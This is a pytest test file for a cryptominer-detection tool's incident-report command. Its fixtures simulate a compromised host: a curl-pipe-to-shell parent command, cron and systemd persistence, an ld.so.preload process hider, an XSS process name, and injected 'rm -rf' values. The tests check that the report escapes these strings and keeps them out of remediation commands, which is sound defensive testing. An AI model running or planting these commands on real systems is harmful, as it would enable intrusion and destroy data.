"""``minerwatch report``: an incident report from a data folder laid out as the agent writes it.

Every test runs the real command in a subprocess on a folder built here with the agent's
own formats: event lines, an evidence file, a SQLite history written by ``History``, the
throttle's audit log. One test renders the HTML in a real headless Chromium.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pytest

from minerwatch.service.history import History

ROOT = Path(__file__).resolve().parent.parent
MINERWATCH = str(ROOT / ".venv/bin/minerwatch")
T0 = 1_767_225_600.0  # 2026-01-01T00:00Z
START, END = T0 + 3600, T0 + 4800  # the alert episode
EPISODE = f"web1-{int(START)}"
EARLIER = f"web1-{int(T0 + 600)}"
EXE = "/tmp/.X11-unix/.x/kworkerds"
EVIL_NAME = "<script>alert(1)</script>"
STRATUM = "stratum+tcp://pool.example.org:3333"
SHA = "9f" * 32


def _event(kind: str, episode_id: str, start: float, end: float, time: float, **extra):
    line = {
        "event": kind,
        "host": "web1",
        "time": time,
        "id": episode_id,
        "start": start,
        "end": end,
        "score": 0.93,
        "threshold": 0.71,
        "top_features": [
            {
                "feature": "cpu_percent_mean",
                "value": 97.5,
                "typical_low": 3.0,
                "typical_high": 22.0,
                "contribution": 0.61,
            }
        ],
        **extra,
    }
    return json.dumps(line, sort_keys=True) + "\n"


def build_data_dir(root: Path, host_wide: bool = False) -> Path:
    """A data folder with two episodes; the latest has evidence, history and a throttle
    (``host_wide``: and an indicator about the whole host, which names no process)."""
    data = root / "data"
    (data / "evidence").mkdir(parents=True, mode=0o700)
    (data / "throttle").mkdir(mode=0o700)
    process = {
        "pid": 4242,
        "name": EVIL_NAME,
        "exe": EXE,
        "user": "www-data",
        "cpu_percent": 398.0,
        "remote_ports": [3333],
    }
    hits = [
        {"indicator_id": "pool_port", "reason": "remote_port", "pid": 4242, "detail": "3333"},
        {
            "indicator_id": "stratum_url",
            "reason": "cmdline_scheme",
            "pid": 4242,
            "detail": "stratum+tcp://",
        },
    ]
    if host_wide:
        hits.append(
            {
                "indicator_id": "unexplained_cpu",
                "reason": "host_above_visible",
                "pid": None,
                "detail": "51.3",
            }  # fmt: skip
        )
    evidence_name = f"20260101T010000Z-{EPISODE}.json"
    evidence_path = data / "evidence" / evidence_name
    with open(data / "events.jsonl", "w") as fh:
        fh.write(_event("open", EARLIER, T0 + 600, T0 + 660, T0 + 660))
        fh.write(_event("close", EARLIER, T0 + 600, T0 + 720, T0 + 780, reason="cleared"))
        fh.write("{truncated by a crash\n")
        extra = {"process": process, "indicators": hits, "evidence": str(evidence_path)}
        fh.write(_event("open", EPISODE, START, START + 60, START + 60, **extra))
        fh.write(_event("close", EPISODE, START, END, END + 60, reason="cleared", **extra))
    evidence = {
        "format": "minerwatch-evidence",
        "version": 1,
        "episode_id": EPISODE,
        "written_at": START + 60,
        "written_at_utc": "2026-01-01T01:01:00Z",
        "hostname": "web1",
        "score": 0.93,
        "threshold": 0.71,
        "features": {"cpu_percent_mean": 97.5},
        "explanation": [],
        "indicators": hits,
        "processes": [
            {
                "pid": 4242,
                "exe": EXE,
                "exe_deleted": False,
                "sha256": SHA,
                "package": {"manager": "dpkg", "name": None, "as_shipped": None},
                "size": 2_400_000,
                "name": EVIL_NAME,
                "ppid": 4100,
                "username": "www-data",
                "create_time": START - 120,
                "create_time_utc": "2026-01-01T00:58:00Z",
                "cmdline": [EXE, "-o", STRATUM, "-u", "48edfHu7V9Z84Yzz", "--donate-level=1"],
                "uids": [33, 33, 33],
                "cwd": "/tmp/.X11-unix/.x",
                "status": "running",
                "num_threads": 4,
                "connections": [
                    {
                        "proto": "tcp",
                        "local": "10.0.0.5:51234",
                        "remote": "203.0.113.7:3333",
                        "status": "ESTABLISHED",
                    },
                    {
                        "proto": "tcp",
                        "local": "10.0.0.5:51300",
                        "remote": "198.51.100.9:443",
                        "status": "ESTABLISHED",
                    },
                ],
                "parents": [
                    {
                        "pid": 4100,
                        "exe": "/bin/bash",
                        "name": "bash",
                        "username": "www-data",
                        "cmdline": ["bash", "-c", "curl -s http://x | sh"],
                    },
                    {"pid": 1, "exe": "/sbin/init", "name": "systemd", "username": "root"},
                ],
                "errors": [],
            },
            {"pid": 900, "name": "postgres", "exe": "/usr/bin/postgres", "username": "postgres"},
        ],
        "listening": [{"proto": "tcp", "local": "0.0.0.0:22", "pid": 800, "name": "sshd"}],
        "crontabs": [
            {
                "path": "/var/spool/cron/crontabs/www-data",
                "mtime": START - 300,
                "mtime_utc": "2026-01-01T00:55:00Z",
                "size": 60,
                "mode": "0o600",
                "uid": 33,
                "content": f"*/5 * * * * {EXE} >/dev/null 2>&1\n",
            }
        ],
        "systemd_units": [
            {
                "path": "/etc/systemd/system/kworkerds.service",
                "mtime": START - 290,
                "mtime_utc": "2026-01-01T00:55:10Z",
                "size": 120,
                "mode": "0o644",
                "uid": 0,
                "content": f"[Service]\nExecStart={EXE}\nRestart=always\n",
            }
        ],
        "ld_so_preload": {
            "path": "/etc/ld.so.preload",
            "exists": True,
            "content": "/usr/local/lib/libprocesshider.so\n",
        },
        "logged_in": [],
        "errors": [],
        "truncated": [],
    }
    evidence_path.write_text(json.dumps(evidence, indent=1))
    os.chmod(evidence_path, 0o600)
    history = History(data / "history.db", retention_s=30 * 86400, clock=lambda: END + 3600)
    with history:
        for i in range(0, 2 * 3600 // 10 + 360):
            ts = T0 + 1800 + 10 * i
            mining = START - 120 <= ts <= END
            cpu = 98.0 if mining else 8.0 + (i % 7)
            history.add_sample(
                ts,
                {
                    "cpu_percent": cpu,
                    "top_proc_cpu_percent": 390.0 if mining else 20.0,
                    "indicator_hits": 2.0 if mining else 0.0,
                },
            )
            if i % 6 == 5:
                alert = START <= ts <= END
                history.add_window(ts - 60, ts, 0.93 if mining else 0.3, 0.71, alert)
    audit = {
        "ts": START + 200,
        "action": "throttle",
        "pid": 4242,
        "name": "kworkerds",
        "method": "cgroup",
        "reason": "host CPU 98% above 90% during an alert",
        "host_cpu": 98.0,
    }
    (data / "throttle" / "throttle-audit.jsonl").write_text(json.dumps(audit) + "\n")
    return data


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory):
    return build_data_dir(tmp_path_factory.mktemp("report"))


def report(*args: str, python: list[str] | None = None) -> subprocess.CompletedProcess[str]:
    cmd = (python or [MINERWATCH]) + ["report", *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=120)


def test_html_report_is_self_contained_escaped_and_private(data_dir, tmp_path):
    out = tmp_path / "report.html"
    r = report("--data-dir", str(data_dir), "--output", str(out), "--remediation")
    assert r.returncode == 0, r.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    page = out.read_text()
    # the crash-cut event line is named, not fatal
    assert "events.jsonl:3: skipped" in r.stderr
    assert EPISODE in page and EARLIER not in page  # the latest episode by default
    assert EVIL_NAME not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<script" not in page.lower()
    for ref in ('src="http', "src='http", "href=", "url(", "@import"):
        assert ref not in page
    assert 'src="data:image/png;base64,' in page  # matplotlib is in the test extra
    assert SHA in page and "/tmp/.X11-unix/.x" in page and "2026-01-01T00:58:00Z" in page
    assert "installed by no dpkg package" in page
    assert '<span class="hot">203.0.113.7:3333</span>' in page
    assert f'<span class="hot">{STRATUM}</span>' in page
    assert "198.51.100.9:443" in page and '<span class="hot">198.51.100.9:443' not in page
    assert "bash" in page and "curl -s http://x | sh" not in page  # parents: name, not argv
    assert "MITRE ATT&amp;CK T1496" in page
    assert "cpu_percent_mean" in page and "3 &ndash; 22" in page
    assert "/etc/systemd/system/kworkerds.service" in page and "libprocesshider.so" in page
    assert "throttled 1x" in page
    assert "kill -KILL 4242" in page and "systemctl disable --now kworkerds.service" in page
    assert "crontab -u www-data -e" in page and ": &gt; /etc/ld.so.preload" in page


def test_json_twin_holds_the_same_content_and_picks_episodes(data_dir):
    r = report("--data-dir", str(data_dir), "--format", "json", "--remediation")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    assert doc["format"] == "minerwatch-incident-report"
    assert doc["episode"]["id"] == EPISODE and doc["episode"]["state"] == "closed"
    s = doc["suspect"]
    assert s["pid"] == 4242 and s["name"] == EVIL_NAME and s["sha256"] == SHA
    assert s["stratum_urls"] == [STRATUM]
    assert [c["pool_port"] for c in s["connections"]] == [True, False]
    assert {h["indicator_id"] for h in doc["indicators"]} == {"pool_port", "stratum_url"}
    assert all(h["sources"] for h in doc["indicators"])
    tl = doc["timeline"]
    assert len(tl["samples"]["ts"]) > 100 and max(tl["samples"]["cpu_percent"]) == 98.0
    assert any(w["alert"] for w in tl["windows"]) and not all(w["alert"] for w in tl["windows"])
    status = {c["step"]: c["status"] for c in doc["checklist"]}
    assert status["preserve"] == "done" and status["contain"] == "partly done"
    commands = [c["command"] for c in doc["remediation"]]
    assert commands[0] == "kill -KILL 4242"
    assert f"rm -f -- {EXE}" in commands
    r = report("--data-dir", str(data_dir), "--format", "json", "--episode", EARLIER)
    assert r.returncode == 0, r.stderr
    earlier = json.loads(r.stdout)
    assert earlier["episode"]["id"] == EARLIER and "remediation" not in earlier
    steps = {c["step"]: c for c in earlier["checklist"]}
    assert earlier["suspect"] is None and steps["preserve"]["status"] == "to do"
    assert steps["or dismiss"]["status"] == "if benign"
    assert steps["or dismiss"]["detail"].startswith(f"minerwatch dismiss --episode {EARLIER} ")


def test_markdown_fences_host_text(data_dir, tmp_path):
    out = tmp_path / "r.md"
    r = report("--data-dir", str(data_dir), "--format", "md", "--output", str(out))
    assert r.returncode == 0, r.stderr
    text = out.read_text()
    assert f"` {EVIL_NAME} `" in text and "**POOL PORT**" in text and STRATUM in text
    assert "- [x] preserve" in text and "- [ ] clean" in text
    assert "installed by no dpkg package" in text


def test_reports_give_the_suspects_cpu_and_no_pid_for_a_host_wide_indicator(tmp_path):
    data = build_data_dir(tmp_path, host_wide=True)
    md = report("--data-dir", str(data), "--format", "md")
    assert md.returncode == 0, md.stderr
    assert "- cpu: 398 % of one core" in md.stdout
    assert "unexplained_cpu (host_above_visible, host-wide, " in md.stdout
    assert "pid 4242" in md.stdout and "None" not in md.stdout
    page = report("--data-dir", str(data))
    assert page.returncode == 0, page.stderr
    assert "<td><b>CPU</b></td><td>398 % of one core</td>" in page.stdout
    row = page.stdout.split("<td>unexplained_cpu</td>", 1)[1].split("</tr>", 1)[0]
    assert "<td>host-wide</td>" in row and "None" not in row


def test_the_hunt_step_says_how_and_never_hunts_a_shipped_programs_hash(tmp_path):
    """The checklist's hunt step gives the commands (``ioc extract`` of this evidence, then
    ``hunt``); for a renamed copy of a shipped program it names the path, not the hash that
    program has on every host (``ioc extract`` leaves that hash out too)."""
    data = build_data_dir(tmp_path)
    r = report("--data-dir", str(data), "--format", "json")
    assert r.returncode == 0, r.stderr
    doc = json.loads(r.stdout)
    hunt = {c["step"]: c for c in doc["checklist"]}["hunt"]["detail"]
    assert hunt.startswith(f"minerwatch ioc extract {doc['evidence_file']} --output ioc.json")
    assert "'minerwatch hunt ioc.json'" in hunt and f"sha256 {SHA}" in hunt
    ev = Path(doc["evidence_file"])
    evidence = json.loads(ev.read_text())
    copy = {"path": "/usr/bin/python3.11", "package": "python3.11-minimal"}
    evidence["processes"][0]["package"]["copy_of"] = copy
    ev.write_text(json.dumps(evidence))
    for fmt in ("json", "md", "html"):
        r = report("--data-dir", str(data), "--format", fmt)
        assert r.returncode == 0, r.stderr
        assert f"path {EXE} (not its sha256: a copy of /usr/bin/python3.11" in r.stdout, fmt
        assert f"sha256 {SHA};" not in r.stdout, fmt


def test_without_matplotlib_the_plot_is_an_inline_svg(data_dir):
    block = (
        "import sys; sys.modules['matplotlib'] = None; "
        "from minerwatch.service.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    r = report("--data-dir", str(data_dir), python=[str(ROOT / ".venv/bin/python"), "-c", block])
    assert r.returncode == 0, r.stderr
    assert "<svg" in r.stdout and "<polyline" in r.stdout and "data:image/png" not in r.stdout
    assert "http" not in r.stdout.split("<svg", 1)[1].split("</svg>", 1)[0]


def test_output_dash_is_standard_output_not_a_file_named_dash(data_dir, tmp_path):
    """As for ``score --output -``: a responder piping the report (or the IOC file) on got
    nothing on stdout and a hidden file named ``-`` in the working folder."""
    for command in (
        [MINERWATCH, "report", "--data-dir", str(data_dir), "--format", "md", "--output", "-"],
        [MINERWATCH, "ioc", "extract", EPISODE, "--data-dir", str(data_dir), "--output", "-"],
    ):
        r = subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert r.returncode == 0, r.stderr
        assert r.stdout.startswith(("# Incident report", '{\n "format": "minerwatch-ioc"')), (
            r.stdout
        )
        assert not (tmp_path / "-").exists()


def test_usage_errors_exit_2_with_a_clear_message(data_dir, tmp_path):
    r = report("--data-dir", str(tmp_path / "missing"))
    assert r.returncode == 2 and "no such folder" in r.stderr
    empty = tmp_path / "empty"
    empty.mkdir()
    r = report("--data-dir", str(empty))
    assert r.returncode == 2 and "at least one alert episode" in r.stderr
    assert "Traceback" not in r.stderr
    r = report("--data-dir", str(data_dir), "--episode", "web1-123")
    assert r.returncode == 2, r.stderr
    assert "--episode" in r.stderr and EPISODE in r.stderr and EARLIER in r.stderr
    assert "Traceback" not in r.stderr


def _png_pixels(path: Path) -> tuple[int, int, list[bytes]]:
    """Width, height and raw scanlines of an 8-bit RGB/RGBA PNG (what Chromium writes)."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    pos, idat, width, height, ctype = 8, b"", 0, 0, 0
    while pos < len(data):
        (n,) = struct.unpack(">I", data[pos : pos + 4])
        kind, body = data[pos + 4 : pos + 8], data[pos + 8 : pos + 8 + n]
        if kind == b"IHDR":
            width, height, depth, ctype = struct.unpack(">IIBB", body[:10])
            assert depth == 8 and ctype in (2, 6)
        elif kind == b"IDAT":
            idat += body
        pos += 12 + n
    raw = zlib.decompress(idat)
    stride = 1 + width * (3 if ctype == 2 else 4)
    return width, height, [raw[i * stride : (i + 1) * stride] for i in range(height)]


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("chromium") is None, reason="Debian's chromium is not installed")
def test_report_renders_in_headless_chromium(data_dir, tmp_path):
    page = tmp_path / "report.html"
    r = report("--data-dir", str(data_dir), "--output", str(page), "--remediation")
    assert r.returncode == 0, r.stderr
    flags = [
        "chromium",
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={tmp_path / 'profile'}",
    ]
    shot = tmp_path / "report.png"
    run = subprocess.run(
        [*flags, f"--screenshot={shot}", "--window-size=1200,2000", page.as_uri()],
        capture_output=True,
        text=True,
        timeout=90,
    )
    assert shot.is_file(), run.stderr
    dom = subprocess.run(
        [*flags, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=90
    )
    assert dom.returncode == 0, dom.stderr
    assert '<h2 id="suspect">' in dom.stdout and '<h2 id="checklist">' in dom.stdout
    assert '<img alt="timeline"' in dom.stdout or "<svg" in dom.stdout
    assert "<script" not in dom.stdout.lower()  # the hostile name stayed text
    width, height, rows = _png_pixels(shot)
    assert (width, height) == (1200, 2000)
    # not blank: many distinct scanlines (text, tables and the plot), not one white sheet
    assert len(set(rows)) > 200, "the screenshot looks blank"
    assert shot.stat().st_size > 20_000
    print(f"screenshot: {shot}", file=sys.stderr)


def test_a_mangled_evidence_file_still_gives_a_report(tmp_path):
    """Evidence and event files can be hand-edited or planted: wrong types are left out."""
    data = build_data_dir(tmp_path)
    (path,) = (data / "evidence").glob("*.json")
    doc = json.loads(path.read_text())
    for key in ("processes", "crontabs", "systemd_units", "indicators", "listening"):
        doc[key] = "x" if key != "crontabs" else 5
    doc["ld_so_preload"] = ["nope"]
    doc["indicators"] = [{"indicator_id": ["pool_port"], "pid": {"a": 1}, "detail": [3333]}]
    path.write_text(json.dumps(doc))
    with open(data / "events.jsonl", "a") as fh:
        fh.write(_event("update", EPISODE, START, END, END, process="pid 1", indicators={"a": 1}))
    for fmt in ("html", "json", "md"):
        r = report("--data-dir", str(data), "--format", fmt, "--remediation")
        assert r.returncode == 0, r.stderr
    doc = json.loads(report("--data-dir", str(data), "--format", "json").stdout)
    assert doc["suspect"] is None and doc["persistence"]["crontabs"] == []


def test_remediation_never_lets_host_text_become_a_command(tmp_path):
    """A unit file name with a newline, a pid of -1 and a quote in the exe path: each stays
    one reviewable line, quoted or commented out, and no 'kill -KILL -1' is ever listed."""
    data = build_data_dir(tmp_path)
    (path,) = (data / "evidence").glob("*.json")
    doc = json.loads(path.read_text())
    proc = doc["processes"][0]
    proc["exe"] = "/tmp/it's; rm -rf ~"
    doc["systemd_units"][0]["path"] = "/etc/systemd/system/x\nrm -rf /\n.service"
    doc["systemd_units"][0]["content"] = f"ExecStart={proc['exe']}\n"
    path.write_text(json.dumps(doc))
    r = report("--data-dir", str(data), "--format", "json", "--remediation")
    assert r.returncode == 0, r.stderr
    commands = [c["command"] for c in json.loads(r.stdout)["remediation"]]
    assert "rm -f -- '/tmp/it'\"'\"'s; rm -rf ~'" in commands
    assert all("\n" not in c for c in commands)
    assert any(c.startswith("# by hand: systemctl disable --now") for c in commands)
    assert not any(c.startswith("rm -rf /") for c in commands)
    lines = (data / "events.jsonl").read_text().splitlines()
    (data / "events.jsonl").write_text(
        "\n".join(line.replace('"pid": 4242', '"pid": -1') for line in lines) + "\n"
    )
    proc["pid"] = -1
    path.write_text(json.dumps(doc))
    r = report("--data-dir", str(data), "--format", "json", "--remediation")
    assert r.returncode == 0, r.stderr
    assert not any(c["command"].startswith("kill") for c in json.loads(r.stdout)["remediation"])


def test_config_file_names_the_data_folder(data_dir, tmp_path):
    config = tmp_path / "minerwatch.toml"
    config.write_text(f'[agent]\ndata_dir = "{data_dir}"\n')
    r = report("--config", str(config), "--format", "json", "--episode", EARLIER)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["episode"]["id"] == EARLIER


def test_remediation_never_offers_to_delete_a_shipped_program_or_the_loader(tmp_path):
    """A miner running inside a package's program as shipped (``python3`` running its
    script), or evidence from before the loader was looked through (the kernel named
    ``ld-linux-x86-64.so.2`` as the executable): deleting either breaks the host and leaves
    the miner. The list says what to look at instead, and units or crontabs that merely run
    that program are not called the suspect's."""
    data = build_data_dir(tmp_path)
    (path,) = (data / "evidence").glob("*.json")
    doc = json.loads(path.read_text())
    proc = doc["processes"][0]
    cases = {
        "/usr/bin/python3.11": {"manager": "dpkg", "name": "python3.11-minimal",
                                "as_shipped": True},
        "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2": {"manager": "dpkg", "name": None,
                                                           "as_shipped": None},
    }  # fmt: skip
    for exe, package in cases.items():
        proc["exe"], proc["package"] = exe, package
        doc["systemd_units"][0]["content"] = f"ExecStart={exe} /srv/app/worker.py\n"
        path.write_text(json.dumps(doc))
        r = report("--data-dir", str(data), "--format", "json", "--remediation")
        assert r.returncode == 0, r.stderr
        steps = json.loads(r.stdout)["remediation"]
        commands = [c["command"] for c in steps]
        assert not any(exe in c and c.startswith("rm") for c in commands), commands
        assert not any("systemctl disable" in c for c in commands), commands
        (keep,) = [c for c in steps if c["why"].startswith(f"do not remove {exe}")]
        assert keep["command"] == "ls -l /proc/4242/cwd /proc/4242/fd", keep


def test_remediation_keeps_the_libraries_a_package_preloads(tmp_path):
    """``ld.so.preload`` holding a package's library on purpose (snoopy's logger) beside
    the rootkit's: the list removes only the rootkit's, and rewrites the file with the
    package's library instead of emptying it (and never deletes a package's file); with
    the package's library alone it offers nothing for ld.so.preload."""
    data = build_data_dir(tmp_path)
    (path,) = (data / "evidence").glob("*.json")
    doc = json.loads(path.read_text())
    logger, hider = "/usr/lib/x86_64-linux-gnu/libsnoopy.so", "/usr/local/lib/libprocesshider.so"
    shipped = {"manager": "dpkg", "name": "snoopy", "as_shipped": True, "copy_of": None}
    nobodys = {"manager": "dpkg", "name": None, "as_shipped": None, "copy_of": None}
    doc["ld_so_preload"] = {
        "path": "/etc/ld.so.preload", "exists": True, "content": f"{logger}\n{hider}\n",
        "entries": [{"path": logger, "sha256": "a" * 64, "package": shipped},
                    {"path": hider, "sha256": "b" * 64, "package": nobodys}],
    }  # fmt: skip
    path.write_text(json.dumps(doc))
    r = report("--data-dir", str(data), "--format", "json", "--remediation")
    assert r.returncode == 0, r.stderr
    commands = [c["command"] for c in json.loads(r.stdout)["remediation"]]
    assert f"rm -f -- {hider}" in commands and f"rm -f -- {logger}" not in commands
    assert f"printf '%s\\n' {logger} > /etc/ld.so.preload" in commands, commands
    assert ": > /etc/ld.so.preload" not in commands
    doc["ld_so_preload"]["content"] = f"{logger}\n"
    doc["ld_so_preload"]["entries"] = doc["ld_so_preload"]["entries"][:1]
    path.write_text(json.dumps(doc))
    r = report("--data-dir", str(data), "--format", "json", "--remediation")
    assert r.returncode == 0, r.stderr
    steps = json.loads(r.stdout)["remediation"]
    assert not any("ld.so.preload" in c["command"] or logger in c["command"] for c in steps)


def test_the_latest_episode_is_the_one_the_agent_lived_last(tmp_path):
    """After the wall clock stepped back (the agent closes the open episode and opens the
    next one on the new clock), the episode lived last starts earlier than the one before:
    'the latest' is the last in the event log, for the report and for dismiss (both took
    the one that started last, the episode the responder had already dealt with)."""
    data = build_data_dir(tmp_path)
    stepped = START - 86400  # a day back
    later = f"web1-{int(stepped)}"
    with open(data / "events.jsonl", "a") as fh:
        fh.write(_event("open", later, stepped, stepped + 60, stepped + 60))
        fh.write(_event("close", later, stepped, stepped + 600, stepped + 660, reason="cleared"))
    with History(data / "history.db", retention_s=30 * 86400, clock=lambda: END + 3600) as h:
        h.add_window(stepped, stepped + 60, 0.93, 0.71, True)  # what dismiss lets be learnt
    r = report("--data-dir", str(data), "--format", "json")
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["episode"]["id"] == later
    d = subprocess.run([MINERWATCH, "dismiss", "--data-dir", str(data), "--reason", "test"],
                       capture_output=True, text=True, timeout=120)  # fmt: skip
    assert d.returncode == 0 and later in d.stdout + d.stderr, (d.stdout, d.stderr)
